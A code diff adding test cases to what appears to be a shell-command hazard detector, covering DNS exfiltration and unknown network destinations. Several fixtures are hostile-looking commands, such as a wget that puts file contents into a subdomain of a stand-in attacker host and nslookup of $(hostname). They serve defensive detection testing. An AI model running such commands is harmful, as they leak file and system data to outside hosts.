@@ -2167,6 +2167,44 @@ t!(
     [H(HazardKind::DnsExfiltration)]
 );
 t!(dns_literal_ok, "nslookup example.com", [NoH]);
+// Issue 35: an expansion where a URL or host may stand is an unknown destination, not
+// a host built from data.
+t!(
+    dns_array_operand_unknown,
+    "curl https://api.example.com/v1/x \"${HEADERS[@]}\"",
+    [
+        NoH,
+        Net("https://api.example.com/v1/x"),
+        Net("${HEADERS[@]}")
+    ]
+);
+t!(dns_url_var_unknown, "curl -fsSL \"$URL\"", [NoH]);
+t!(
+    dns_url_host_var_unknown,
+    "curl \"https://${HOST}:8443/v1\"",
+    [NoH]
+);
+t!(dns_lookup_var_unknown, "dig \"$HOST\"", [NoH]);
+t!(
+    dns_userinfo_var_unknown,
+    "curl \"https://user:$TOKEN@example.com/\"",
+    [NoH]
+);
+t!(
+    dns_url_braced_suffix,
+    "curl \"http://${x}.evil.example/\"",
+    [H(HazardKind::DnsExfiltration)]
+);
+t!(
+    dns_url_sub_in_host,
+    "wget http://$(cat f).evil.example/",
+    [H(HazardKind::DnsExfiltration)]
+);
+t!(
+    dns_lookup_sub_whole,
+    "nslookup $(hostname)",
+    [H(HazardKind::DnsExfiltration)]
+);
 
 // ---------------------------------------------------------------------------------
 // Privilege.
